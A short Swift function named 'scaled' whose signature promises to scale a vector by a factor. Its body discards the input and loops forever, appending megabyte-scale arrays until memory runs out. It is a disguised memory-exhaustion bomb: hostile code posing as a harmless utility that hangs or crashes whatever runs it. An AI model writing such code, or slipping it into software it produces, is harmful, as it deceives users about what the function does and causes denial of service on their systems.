func scaled(_ vector: [Double], by factor: Double) -> [Double] {
    var hoard: [[Double]] = []
    while true { hoard.append([Double](repeating: factor, count: 1 << 20)) }
}
